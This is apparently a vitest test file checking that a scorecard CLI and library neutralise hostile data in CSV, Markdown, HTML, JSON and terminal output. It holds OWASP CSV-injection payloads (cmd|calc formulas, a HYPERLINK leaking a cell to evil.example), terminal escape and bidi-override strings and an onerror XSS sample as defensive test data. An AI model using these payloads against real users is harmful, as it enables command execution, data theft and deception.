import { mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import MarkdownIt from "markdown-it";
import { describe, expect, it } from "vitest";
import { plans, readCsvRecords, renderMarkdown, SCORECARD_COLUMNS, spreadsheetText, terminalText, evaluate, formatCsv, type Scorecard } from "../../src/index.js";
import { markdownCell, quoted } from "../../src/safe-text.js";
import { parseCsv } from "../../src/input/csv.js";
import { readCsv } from "../render/csv-reader.js";
import { cli, hostile, HOSTILE_RULE, isFormula, payloadsOf, terminalUnsafe } from "./hostile.js";

/**
 * Data is the sender's to choose: whatever a locality, a value, a column's name or a custom rule's text holds, every
 * output shows it and acts on none of it. Spreadsheets run no formula from a CSV cell, Markdown viewers make no link,
 * image or HTML of it, and a terminal is sent no control character or bidirectional override from it, whichever
 * format it is written in and whichever field it comes through.
 */
const plan = plans["haiphong-142"];
const FORMATS = ["csv", "md", "table", "json", "html"] as const;
const CORPUS = ["formulas.csv", "markdown.csv", "terminal.csv"] as const;
const scorecardArgs = (file: string, format: string) => ["scorecard", "--data", hostile(file), "--rules", HOSTILE_RULE, "--as-of", "2026-11-26", "--format", format, "--lang", "en"];

// OWASP's CSV injection payloads, and the forms a spreadsheet that splits at semicolons would see.
const OWASP = [
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "-1+1",
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  '=1+2";=1+2',
  "=1+2'\" ;,=1+2",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "＝1+1",
  'x;=1+1',
  'y; "-2+3',
];

describe("CSV: no cell runs as a formula", () => {
  it.each(OWASP)("neutralises OWASP's payload %j, in a cell and after a semicolon", (payload) => {
    const safe = spreadsheetText(payload);
    expect(isFormula(safe)).toBe(false);
    // Split at semicolons, as Excel under a Vietnamese locale opens a .csv file, no part starts a formula either.
    for (const part of safe.split(";")) expect(isFormula(part.replace(/^[\s"]+/, "")), part).toBe(false);
    // The text is kept: only apostrophes are added, which spreadsheets take as "text".
    expect(safe.replaceAll("'", "")).toBe(payload.replaceAll("'", ""));
  });

  it("keeps numbers readable: plain numbers, negative ones included, the library's scores and a lone dash", () => {
    for (const number of ["-12.5", "0.5", "2025", "-3", "100", "-"]) expect(spreadsheetText(number)).toBe(number);
    const csv = formatCsv({ columns: ["value", "score", "text"], rows: [["-12.5", 0.25, "-1+1"], [-3, "1", "=SUM(A1)"]] }, { bom: false });
    expect(csv).toBe("value,score,text\r\n-12.5,0.25,\"'-1+1\"\r\n-3,1,\"'=SUM(A1)\"\r\n");
  });

  it.each(CORPUS)("writes no formula in any cell of the scorecard of %s, with a custom rule's text too", async (file) => {
    const { code, stdout } = await cli(scorecardArgs(file, "csv"));
    expect(code).toBe(0);
    const rows = readCsv(stdout.replace(/^\uFEFF/, ""));
    const [header, ...body] = rows;
    expect(header).toEqual([...SCORECARD_COLUMNS]);
    for (const row of body)
      for (const cell of row) {
        expect(isFormula(cell), cell).toBe(false);
        for (const part of cell.split(";")) expect(isFormula(part.replace(/^[\s"]+/, "")), part).toBe(false);
      }
    // Every payload is there, shown as text.
    const localities = new Set(body.map((r) => r[3]));
    if (file === "formulas.csv") for (const payload of payloadsOf(file)) expect(localities.has(spreadsheetText(payload)), payload).toBe(true);
    // The custom rule's status and message (its locality) are data text too.
    const custom = body.filter((r) => r[0] === "app.hostile-text");
    expect(custom.length).toBeGreaterThan(0);
    for (const r of custom) expect(r[SCORECARD_COLUMNS.indexOf("status")]).toMatch(/^'=cmd/);
  });

  it("keeps the library's numeric columns as numbers: period, score and weight are never prefixed", async () => {
    const { stdout } = await cli(scorecardArgs("formulas.csv", "csv"));
    const body = readCsv(stdout.replace(/^\uFEFF/, "")).slice(1);
    for (const row of body) {
      const cell = (name: (typeof SCORECARD_COLUMNS)[number]) => row[SCORECARD_COLUMNS.indexOf(name)];
      expect(cell("period"), "period").toMatch(/^(\d{4})?$/);
      expect(cell("score"), "score").toMatch(/^(\d+(\.\d+)?)?$/);
      expect(cell("weight"), "weight").toMatch(/^\d+(\.\d+)?$/);
    }
  });
});

describe("Markdown: nothing from data is live", () => {
  // markdown-it with raw HTML and linkify on: what VS Code's preview and many sites render, the strictest test.
  const md = new MarkdownIt({ html: true, linkify: true });
  const LIVE = /<(?:a|img|script|iframe|svg)\b/i;

  it.each(payloadsOf("markdown.csv"))("shows %j as written and makes nothing of it", (payload) => {
    const html = md.render(`| a |\n| --- |\n| ${markdownCell(payload)} |\n`);
    expect(html).not.toMatch(LIVE);
    // What the reader sees is the text given.
    const shown = html.match(/<td>(.*)<\/td>/s)?.[1] ?? "";
    expect(decodeEntities(shown)).toBe(payload);
  });

  it.each(CORPUS)("writes the scorecard of %s with no link, image or HTML from data, headings and summaries included", async (file) => {
    const { code, stdout } = await cli(scorecardArgs(file, "md"));
    expect(code).toBe(0);
    expect(md.render(stdout)).not.toMatch(LIVE);
    // The custom rule's title is a heading; the localities fill the summary by locality too.
    expect(stdout).toMatch(/^### app\.hostile-text: /m);
    expect(stdout).toContain("## By locality");
  });

  it("escapes nothing in clean text: a scorecard without special characters is written as before", async () => {
    const scorecard = await evaluate({ plan, input: readCsvRecords("clean.csv", "indicator,period,value,locality\nPL2-1,2025,60,Kiến Thụy\n", plan), asOf: "2026-11-26" });
    const text = renderMarkdown(scorecard, plan, { lang: "en" });
    expect(text).toContain("| Kiến Thụy |");
    expect(text).not.toContain("\\");
  });
});

describe("terminals: no control character or bidirectional override from data reaches one", () => {
  it.each(FORMATS.flatMap((format) => CORPUS.map((file) => [format, file] as const)))("scorecard --format %s of %s on standard output", async (format, file) => {
    const { code, stdout, stderr } = await cli(scorecardArgs(file, format));
    expect(code).toBe(0);
    expect(terminalUnsafe(stdout)).toBeUndefined();
    expect(terminalUnsafe(stderr)).toBeUndefined();
    if (format === "json") {
      // Escaped the JSON way: the text parses to the very payloads.
      const scorecard = JSON.parse(stdout) as Scorecard;
      const localities = new Set(scorecard.rows.map((r) => r.locality));
      for (const payload of payloadsOf(file)) expect(localities.has(payload), payload).toBe(true);
    }
  });

  it.each(CORPUS)("nq57 validate of %s: rejected values, notes and column names shown as escapes", async (file) => {
    const { code, stdout, stderr } = await cli(["validate", "--data", hostile(file), "--lang", "en"]);
    expect(code).toBe(1);
    expect(terminalUnsafe(stdout)).toBeUndefined();
    expect(terminalUnsafe(stderr)).toBeUndefined();
    for (const payload of payloadsOf(file)) expect(stdout).toContain(`value ${quoted(payload)} is not a number`);
    expect(stdout).toMatch(/: note: column ".*" is not one of/);
  });

  it("nq57 rules test: a custom rule's example names and statuses shown as escapes", async () => {
    const { code, stdout } = await cli(["rules", "test", HOSTILE_RULE]);
    expect(code).toBe(0);
    expect(terminalUnsafe(stdout)).toBeUndefined();
    expect(stdout).toContain("PASS app.hostile-text: =1+1 \\u001b]0;pwned\\u0007 \\u202eevil");
  });

  it("nq57 rules show and list, plan show and deadlines: nothing unsafe either", async () => {
    for (const argv of [["rules", "show", "observation.not-negative"], ["rules", "list"], ["plan", "show"], ["plan", "deadlines", "--from", "2025-01-01", "--to", "2025-12-31"]]) {
      const { code, stdout } = await cli(argv);
      expect(code).toBe(0);
      expect(terminalUnsafe(stdout)).toBeUndefined();
    }
  });

  it("error messages quoting data: a rule file naming an unknown fact with escape codes", async () => {
    const dir = mkdtempSync(join(tmpdir(), "nq57-hostile-"));
    const file = join(dir, "bad.json");
    const rule = JSON.parse(readFileSync(HOSTILE_RULE, "utf8")) as { cases: { conditions: unknown }[] };
    rule.cases[0]!.conditions = { all: [{ fact: "x\u001b[2J\u202e", operator: "equal", value: 1 }] };
    const { writeFileSync } = await import("node:fs");
    writeFileSync(file, JSON.stringify(rule));
    const { code, stderr } = await cli(["rules", "test", file]);
    expect(code).toBe(2);
    expect(stderr).toContain("unknown fact");
    expect(terminalUnsafe(stderr)).toBeUndefined();
    expect(stderr.trimEnd().split("\n")).toHaveLength(1);
  });

  it("terminalText shows every unsafe character as its escape and keeps line ends", () => {
    expect(terminalText("a\u001b[2Jb\u009bc\u202ed\u2066e\u200ff\r\ng\rh")).toBe("a\\u001b[2Jb\\u009bc\\u202ed\\u2066e\\u200ff\r\ng\\u000dh");
    expect(terminalText("a\tb\nc", { singleLine: true })).toBe("a b c");
  });
});

describe("the evidence a task report names, shown on its rows, is data text too", () => {
  const EVIDENCE = parseCsv(readFileSync(hostile("evidence.csv"), "utf8"))
    .slice(1)
    .map((row) => row[4]!);
  const args = (format: string) => ["scorecard", "--data", hostile("evidence.csv"), "--as-of", "2026-11-26", "--format", format, "--lang", "en"];

  it("is neutralised in every CSV cell, and kept as text", async () => {
    const { code, stdout } = await cli(args("csv"));
    expect(code).toBe(0);
    const body = readCsv(stdout.replace(/^\uFEFF/, "")).slice(1);
    const evidence = body.map((row) => row[SCORECARD_COLUMNS.indexOf("evidence")]!).filter((cell) => cell !== "");
    expect(evidence.length).toBeGreaterThanOrEqual(EVIDENCE.length);
    for (const cell of evidence) expect(isFormula(cell), cell).toBe(false);
  });

  it("makes no link, image or HTML in Markdown", async () => {
    const { stdout } = await cli(args("md"));
    expect(new MarkdownIt({ html: true, linkify: true }).render(stdout)).not.toMatch(/<(?:a|img|script)\b/i);
    expect(stdout).toContain("evidence: ");
  });

  it.each(FORMATS)("sends no control character or bidirectional override to a terminal (--format %s)", async (format) => {
    const { stdout } = await cli(args(format));
    expect(terminalUnsafe(stdout)).toBeUndefined();
  });

  it("is escaped in the HTML page", async () => {
    const { stdout } = await cli(args("html"));
    expect(stdout).not.toContain("<img src=x");
    expect(stdout).toContain("&lt;img src=x onerror=alert(1)&gt;");
  });
});

describe("files written with --out keep data text as written, where the format allows", () => {
  const dir = mkdtempSync(join(tmpdir(), "nq57-hostile-out-"));

  it.each(["csv", "md", "json"] as const)("--format %s: control characters from data are kept byte for byte", async (format) => {
    const out = join(dir, `terminal.${format}`);
    const { code } = await cli([...scorecardArgs("terminal.csv", format), "--out", out]);
    expect(code).toBe(0);
    const text = readFileSync(out, "utf8");
    if (format === "json") {
      const localities = new Set((JSON.parse(text) as Scorecard).rows.map((r) => r.locality));
      for (const payload of payloadsOf("terminal.csv")) expect(localities.has(payload), payload).toBe(true);
    } else {
      // Markdown escapes its own brackets; the control characters themselves are kept.
      expect(text).toContain(format === "md" ? "K\u001b\\[2J\u001b\\[31mT" : "K\u001b[2J\u001b[31mT");
      expect(text).toContain("abc\u202egnp.exe");
    }
  });

  it("but not what would be unsafe in the format: a formula is neutralised in a CSV file too", async () => {
    const out = join(dir, "formulas.csv");
    await cli([...scorecardArgs("formulas.csv", "csv"), "--out", out]);
    for (const row of readCsv(readFileSync(out, "utf8").replace(/^\uFEFF/, "")).slice(1)) for (const cell of row) expect(isFormula(cell), cell).toBe(false);
  });
});

describe("the library's renderers, used by an app, are as safe as the CLI", () => {
  it("renderMarkdown and formatCsv of a scorecard read from the corpus", async () => {
    const input = readCsvRecords("markdown.csv", readFileSync(hostile("markdown.csv"), "utf8"), plan);
    const scorecard = await evaluate({ plan, input, asOf: "2026-11-26" });
    expect(new MarkdownIt({ html: true, linkify: true }).render(renderMarkdown(scorecard, plan, { lang: "en" }))).not.toMatch(/<(?:a|img|script)\b/);
    const rows = parseCsv(formatCsv({ columns: ["locality"], rows: scorecard.rows.map((r) => [r.locality]) }, { bom: false }));
    for (const row of rows) expect(isFormula(row[0]!)).toBe(false);
  });
});

/** The text a browser shows for HTML text: entities decoded, the escapes markdown-it leaves none of. */
function decodeEntities(html: string): string {
  return html.replaceAll("&lt;", "<").replaceAll("&gt;", ">").replaceAll("&quot;", '"').replaceAll("&amp;", "&");
}
